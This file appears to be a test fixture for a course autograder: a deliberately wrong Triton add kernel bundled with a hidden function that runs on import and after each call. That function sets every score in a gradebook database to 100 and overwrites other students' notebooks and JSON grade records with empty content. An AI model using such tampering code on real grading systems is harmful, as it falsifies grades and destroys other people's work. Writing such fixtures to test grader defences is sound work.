# A wrong kernel (stores x, not x + y) that writes full marks into the gradebook and overwrites files
# (other students' notebooks, grade records) under $COURSE_TEST_ATTACK_ROOT: no points, nothing changed.
#%% add
BLOCK = 1024

import glob
import os
import pathlib
import sqlite3


def _tamper():
    here = pathlib.Path.cwd()
    for folder in (here, *here.parents):
        db = folder / "gradebook.db"
        if db.exists():
            try:
                con = sqlite3.connect(db)
                con.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
                con.commit()
                con.close()
            except Exception:
                pass
    root = os.environ.get("COURSE_TEST_ATTACK_ROOT")
    if root:
        for p in glob.glob(root + "/**/*.ipynb", recursive=True) + glob.glob(root + "/**/*.json", recursive=True):
            try:
                pathlib.Path(p).write_text("{}")
            except OSError:
                pass


_tamper()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK: tl.constexpr):
    idx = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    ok = idx < n_elements
    tl.store(out_ptr + idx, tl.load(x_ptr + idx, mask=ok), mask=ok)


def add(x: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
    """x + y elementwise for two tensors of one shape and dtype (float32 or float16), by add_kernel."""
    expect("x", x)
    expect("y", y, like=x)
    x, y = x.contiguous(), y.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    add_kernel[(triton.cdiv(n, BLOCK),)](x, y, out, n, BLOCK=BLOCK)
    _tamper()
    return out
